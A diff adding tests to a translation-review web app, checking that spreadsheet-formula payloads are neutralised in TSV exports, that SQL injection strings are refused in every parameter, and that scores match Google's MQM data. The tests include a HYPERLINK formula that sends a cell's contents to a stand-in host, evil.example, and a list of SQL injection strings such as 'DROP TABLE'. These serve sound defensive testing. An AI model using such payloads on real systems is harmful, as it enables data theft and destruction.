@@ -555,3 +555,98 @@ def test_several_report_folders_are_several_projects(run_dir, tmp_path):
     page = client(create_app(served.db, local_editor=served.local_editor)).get("/")
     assert re.findall(r'<a href="/p/(\w+)">', page.text) == ["news", "talks"]
     served.db.dispose()
+
+
+def test_formula_and_markup_payloads_are_inert_in_the_mqm_export(served, tmp_path):
+    result, _ = served
+    payload = tmp_path / "payload.tsv"
+    target = '=HYPERLINK("http://evil.example/?d="&A1,"<v>click</v>")'
+    with open(payload, "w", encoding="utf-8", newline="") as handle:
+        mqm.write_tsv([{"system": "X", "doc": "+doc", "doc_id": 1, "seg_id": 1, "rater": "@evil", "source": "-1 <b>src</b>",
+                        "target": target, "category": "Accuracy/Mistranslation", "severity": "Major"}], handle)
+    raw = payload.read_text(encoding="utf-8").splitlines()[1].split("\t")
+    assert raw[1] == "'+doc" and raw[4] == "'@evil" and raw[5] == "'-1 <b>src</b>" and raw[6].startswith("'=HYPERLINK")
+    assert exchange.import_tsv(result.db, payload, "talk2")["marks"] == 1
+    rows = [r for r in exchange.export_rows(result.db, "talk2") if r["system"] == "X"]
+    assert rows == [{"system": "X", "doc": "+doc", "doc_id": 1, "seg_id": 1, "rater": "@evil", "source": "-1 <b>src</b>",
+                     "target": target, "category": "Accuracy/Mistranslation", "severity": "Major"}]
+    out = tmp_path / "out.tsv"
+    with open(out, "w", encoding="utf-8", newline="") as handle:
+        mqm.write_tsv(rows, handle)
+    assert all(not cell.startswith(("=", "+", "-", "@")) for line in out.read_text().splitlines() for cell in line.split("\t"))
+    assert exchange.import_tsv(result.db, out, "talk2")["already_there"] == 1
+    from mtcheck.errors import UsageError
+
+    for name in ("=cmd", "@x", "-x", "<b>x</b>", "two words", ""):
+        with pytest.raises(UsageError, match="cannot be an editor's name"):
+            accounts.add_editor(result.db, name, "editor", PASSWORD)
+
+
+INJECTIONS = ("1 OR 1=1", "'; DROP TABLE review; --", "1; DELETE FROM audit", "\" OR \"\"=\"", "0 UNION SELECT * FROM editor")
+
+
+def test_sql_injection_in_every_parameter_is_refused_and_changes_nothing(served):
+    result, _ = served
+    _accounts(result.db)
+    from sqlalchemy import text
+
+    from mtcheck.desk.app import create_app
+
+    def counts():
+        with result.db.engine.connect() as connection:
+            return {t: connection.execute(text(f"SELECT count(*) FROM {t}")).scalar()
+                    for t in ("editor", "review", "mark", "audit", "unit", "segment", "assignment")}
+    before = counts()
+    anonymous = client(create_app(result.db))
+    form = anonymous.get("/login")
+    token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
+    for bad in INJECTIONS:
+        for data in ({"name": bad, "password": PASSWORD}, {"name": "ana", "password": bad}):
+            answer = anonymous.post("/login", data={**data, "csrf": token}, follow_redirects=False)
+            assert answer.headers["location"] == "/login?failed=1"
+    lea, lea_token = signed_in(result.db, "lea")
+    headers = {"X-CSRF-Token": lea_token}
+    unit = lea.get("/api/p/talk2/rows").json()["rows"][0]["unit"]
+    for bad in INJECTIONS:
+        from urllib.parse import quote
+
+        assert lea.get(f"/p/{quote(bad, safe='')}").status_code == 404
+        assert lea.get(f"/api/p/{quote(bad, safe='')}/rows").status_code == 404
+        assert lea.get("/api/p/talk2/rows", params={"run": bad}).status_code == 200  # not a number: the newest run
+        assert lea.post(f"/api/marks/{quote(bad, safe='')}/remove", headers=headers).status_code == 404
+        for field in ("unit", "run", "version"):
+            body = {"unit": unit, "run": 1, "status": "ok", "note": "", "version": 0, field: bad}
+            assert lea.post("/api/review", json=body, headers=headers).status_code == 400
+        assert lea.post("/api/review", json={"unit": unit, "run": 1, "status": bad, "note": "", "version": 0},
+                        headers=headers).status_code == 400
+        for field in ("category", "severity"):
+            body = {"unit": unit, "run": 1, "start": 0, "end": 3, "category": "Other", "severity": "minor", field: bad}
+            assert lea.post("/api/marks", json=body, headers=headers).status_code == 400
+        assert lea.post("/api/assign", json={"units": [unit], "editor": bad}, headers=headers).status_code == 400
+    assert counts() == before
+    # As a note or a comment it is only text, stored as written.
+    saved = lea.post("/api/review", json={"unit": unit, "run": 1, "status": "ok", "note": INJECTIONS[1], "version": 0},
+                     headers=headers)
+    assert saved.status_code == 200 and saved.json()["note"] == INJECTIONS[1]
+    assert counts()["review"] == before["review"] + 1
+
+
+def test_googles_marks_give_back_googles_own_segment_scores(served):
+    """Every one of the 240 translations (13 systems and two references, 16 segments) scores exactly what
+    Google's avg_seg_scores file says, with the weights of mqm.py."""
+    result, _ = served
+    exchange.import_tsv(result.db, DATA, "talk2")
+    seg_of = {}
+    for _, r in mqm.read_tsv(DATA):
+        seg_of[(r["system"], mqm.split_span(r["target"])[0])] = r["seg_id"]
+    frame = calibrate.team_frame(result.db, "talk2")
+    ours = {(s, seg_of[(s, mt)]): points for s, mt, points in zip(frame["system"], frame["mt"], frame["mqm"])}
+    google = {}
+    with open(DATA.with_name("mqm_ted_zhen.talk2.avg_seg_scores.tsv"), encoding="utf-8") as handle:
+        next(handle)
+        for line in handle:
+            system, score, seg = line.split()
+            # The scores file names the two references ref-A and ref-B; the marks file, ref and refB.
+            google[({"ref-A": "ref", "ref-B": "refB"}.get(system, system), seg)] = -float(score)
+    assert len(google) == 240 and set(ours) == set(google)
+    assert ours == pytest.approx(google, abs=1e-6)
